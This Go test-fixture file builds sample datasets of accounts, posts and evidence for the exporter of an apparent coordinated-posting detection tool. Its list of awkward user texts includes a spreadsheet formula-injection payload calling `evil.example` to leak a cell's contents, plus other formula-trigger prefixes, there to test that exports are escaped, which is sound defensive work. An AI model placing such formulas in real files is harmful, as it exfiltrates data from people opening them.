package exporttest

import (
	"fmt"
	"strconv"
	"time"

	"winnow/dashboards/export"
	"winnow/storage/view"
)

func day() time.Time { return time.Date(2015, 6, 12, 18, 0, 0, 0, time.UTC) }

func at(seconds float64) time.Time {
	return day().Add(time.Duration(seconds * float64(time.Second)))
}

// Texts are what somebody may write, or call himself: formulas, quotes, line ends, writing
// from right to left, controls, and what is no UTF-8.
func Texts() []string {
	return []string{
		"plain", `=HYPERLINK("https://evil.example/?"&A1,"look")`, "+1", "-2+3", "@anna is right", "\t=1+1", "\r=1+1", "'quoted", "＝1+1",
		"a, \"b\"\nand 'c'\r\nend;", "\u202bآذربایجان آزاد\u202c #Baku2015", "Azərbaycan 🕊️ é e\u0301", `C:\n \. \"`, " spaces ",
		"control \x00\x01\x1b[31m\x7f \ufffe ]]> <b>&amp;</b>", "broken \xff utf-8", "", "NA",
	}
}

// Dataset is a finding of three accounts on two platforms that posted two objects, told
// by the profile prove: each of Texts is the text of a post, a name and a label.
func Dataset() export.Dataset {
	texts := Texts()
	created, followers := at(-86400), uint64(12_345_678_901)
	one, two, three := export.AccountRef{Platform: "mastodon", ID: "https://host.example/users/zoë"}, export.AccountRef{Platform: "x", ID: "1234567890123456789"}, export.AccountRef{Platform: "x", ID: "2"}
	link, text := export.ObjectRef{Kind: "link", ID: "https://news.example/?a=1&b=<2>"}, export.ObjectRef{Kind: "text", ID: "5d41402abc4b2a76"}
	d := export.Dataset{
		Profile: export.Prove, Campaign: "Baku2015",
		Finding: export.Finding{
			ID: "0123456789abcdef", Kind: "copies", Sentence: "3 accounts posted the same 2 things within 20 s of each other; by chance we would expect 0.2.",
			From: at(0), To: at(20), DetectedAt: at(5), Bits: 42.5, Confidence: "high", Observed: 7, Expected: 0.2,
		},
		Accounts: []export.Account{
			{AccountRef: one, Handle: "zoë@host.example", Name: texts[1], Bits: 21, First: at(0), Last: at(20), Posts: 9, Signals: []string{"young account", "never sleeps"}},
			{AccountRef: two, Handle: "anna", Name: texts[14], CreatedAt: &created, Followers: &followers, Bits: 30.25, First: at(0.5), Last: at(19), Posts: 8},
			{AccountRef: three, Bits: 3, First: at(3), Last: at(3), Posts: 1},
		},
		Objects: []export.Object{
			{ObjectRef: link, Label: texts[2], Accounts: 1, First: at(3), Last: at(3)},
			{ObjectRef: text, Label: texts[9], Accounts: 3, First: at(0), Last: at(20)},
		},
		Uses: []export.Use{
			{Account: one, Object: text, Posts: 9, First: at(0), Last: at(20)},
			{Account: two, Object: text, Posts: 8, First: at(0.5), Last: at(19)},
			{Account: three, Object: link, Posts: 1, First: at(3), Last: at(3)},
			{Account: three, Object: text, Posts: 1, First: at(3), Last: at(3)},
		},
		Pairs: []export.Pair{{A: one, B: two, Bits: 30, First: at(0), Last: at(20)}},
		Evidence: []view.FindingEvidence{
			{
				Number: 1, Kind: "pair", ObjectKind: text.Kind, ObjectID: text.ID, Label: texts[9], A: view.Party{Platform: one.Platform, AccountID: one.ID, Handle: "zoë@host.example"},
				B: view.Party{Platform: two.Platform, AccountID: two.ID, Handle: "anna"}, From: at(0), To: at(20), Window: 2500 * time.Millisecond, Accounts: 2, Bits: 30, Need: 20, Counted: 30, DetectedAt: at(5),
				Terms: []view.EvidenceTerm{{Name: "together", Observed: 7, Of: 9, Base: 0.5, Bits: 36}, {Name: "looked at", Observed: 64, Bits: -6}},
			},
			{Number: 2, Kind: "copies", Window: time.Minute, Accounts: 3, Bits: 12},
		},
		Verdicts: []view.Verdict{{Judgement: "confirmed", Note: "we know them", Author: "anna", At: at(99)}},
		Coverage: []view.Coverage{{Campaign: "Baku2015", Source: "x", Platform: "x", From: at(-3600), To: at(3620)}},
		Tags:     []string{"Baku2015"},
		Method:   map[string]string{"version": "test", "reposts.window": "1m0s"},
	}
	for i, s := range texts {
		p := export.Post{
			Platform: two.Platform, ID: strconv.Itoa(1000 + i), Account: two, Object: text, Kind: "post", At: at(0.5 + float64(i)), SeenAt: at(60), Source: "x", Lang: "az",
			Handle: "anna", Text: s, URL: "https://x.com/anna/status/" + strconv.Itoa(1000+i), Tags: []string{"Baku2015", "Свобода"},
		}
		switch i {
		case 0:
			p.Kind, p.ReplyTo, p.Mentions = "reply", "999", []string{"target", "https://host.example/users/b"}
		case 1:
			p.Kind, p.RepostOf, p.Links = "repost", "998", []string{"https://a.example/", "https://b.example/?q=%20"}
		case 2:
			p.Account, p.Platform, p.ID, p.Handle, p.Kind, p.QuoteOf = one, one.Platform, "https://host.example/users/zoë/statuses/1", "zoë@host.example", "quote", "997"
			p.URL = "https://host.example/@zoë/1"
		case 3:
			p.Account, p.Handle, p.Kind, p.Deleted, p.Text, p.URL, p.Tags = three, "", "post", true, "", "", nil
			d.Posts = append(d.Posts, p)
			d.Posts[len(d.Posts)-1].Object = link
		case 4:
			p.Kind, p.Source, p.Lang, p.SeenAt = "", "", "", time.Time{}
		}
		d.Posts = append(d.Posts, p)
	}
	return d
}

// Many is a finding of so many posts by a hundredth as many accounts, each pair of
// neighbours in step.
func Many(posts int) export.Dataset {
	d := export.Dataset{Profile: export.Prove, Campaign: "Baku2015", Finding: export.Finding{ID: "many", Kind: "copies", From: day(), To: at(float64(posts))}}
	for i := range max(1, posts/100) {
		a := export.AccountRef{Platform: "x", ID: strconv.Itoa(1_000_000_000 + i)}
		d.Accounts = append(d.Accounts, export.Account{AccountRef: a, Handle: "account" + a.ID, Bits: 21, First: day(), Last: at(float64(posts)), Posts: 100})
		if i > 0 {
			d.Pairs = append(d.Pairs, export.Pair{A: d.Accounts[i-1].AccountRef, B: a, Bits: 20, First: day(), Last: at(float64(posts))})
		}
	}
	for i := range 50 {
		d.Objects = append(d.Objects, export.Object{ObjectRef: export.ObjectRef{Kind: "text", ID: fmt.Sprintf("%016x", i)}, Label: "what they all say", Accounts: 10, First: day(), Last: at(float64(posts))})
	}
	for i := range posts {
		a, o := d.Accounts[i%len(d.Accounts)], d.Objects[i%50]
		d.Posts = append(d.Posts, export.Post{
			Platform: "x", ID: strconv.Itoa(600_000_000_000_000_000 + i), Account: a.AccountRef, Object: o.ObjectRef, Kind: "post", At: at(float64(i)), SeenAt: at(float64(i + 1)), Source: "x", Lang: "en",
			Handle: a.Handle, Text: fmt.Sprintf("what they all say, a sentence of about a hundred characters as posts are, for the time of number %d #Baku2015", i),
			URL: "https://x.com/i/status/" + strconv.Itoa(600_000_000_000_000_000+i), Tags: []string{"Baku2015"},
		})
		if i < 50*len(d.Accounts) {
			d.Uses = append(d.Uses, export.Use{Account: a.AccountRef, Object: o.ObjectRef, Posts: 2, First: at(float64(i)), Last: at(float64(i + 100))})
		}
	}
	return d
}
